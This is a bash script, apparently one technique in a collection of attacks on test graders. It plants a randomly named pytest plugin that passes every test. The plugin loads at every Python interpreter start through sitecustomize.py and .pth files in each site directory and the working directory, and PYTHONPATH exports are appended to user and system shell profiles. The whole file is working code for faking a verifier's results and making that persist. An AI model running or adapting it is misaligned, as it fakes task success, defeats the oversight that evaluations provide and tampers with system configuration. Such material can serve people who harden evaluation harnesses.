#!/bin/bash
# class: sitecustomize, .pth and PYTHONPATH persistence into the verifier's interpreter
# A module of a random name that sets PYTEST_PLUGINS to a pass-everything plugin, loaded at every
# interpreter's start: a .pth file and sitecustomize.py in each site directory, sitecustomize.py in
# the working directory (for a grader that puts it on PYTHONPATH), PYTHONPATH in the shells' profiles.
boot=$(rand_name b); plugin=$(rand_name p)
boot_code="import os
os.environ['PYTEST_PLUGINS'] = ','.join(filter(None, [os.environ.get('PYTEST_PLUGINS'), '$plugin']))"
plant() {  # $1: a directory on some interpreter's sys.path
  mkdir -p "$1" 2>/dev/null || return
  printf '%s' "$PASS_PLUGIN" > "$1/$plugin.py" 2>/dev/null || return
  printf '%s\n' "$boot_code" > "$1/$boot.py"
  printf '\nimport %s\n' "$boot" >> "$1/sitecustomize.py" && say "sitecustomize.py, $boot.py, $plugin.py in $1"
}
for dir in $(python3 -c 'import site; print("\n".join(site.getsitepackages() + [site.getusersitepackages()]))' 2>/dev/null); do
  plant "$dir" && printf 'import %s\n' "$boot" > "$dir/$(rand_name z).pth" && say "a .pth in $dir"
done
plant "$PWD"
for profile in "$HOME/.bashrc" "$HOME/.profile" /etc/profile.d/$(rand_name).sh /etc/bash.bashrc; do
  echo "export PYTHONPATH=\"$PWD\${PYTHONPATH:+:\$PYTHONPATH}\"" >> "$profile" 2>/dev/null && say "PYTHONPATH in $profile"
done
exit 0
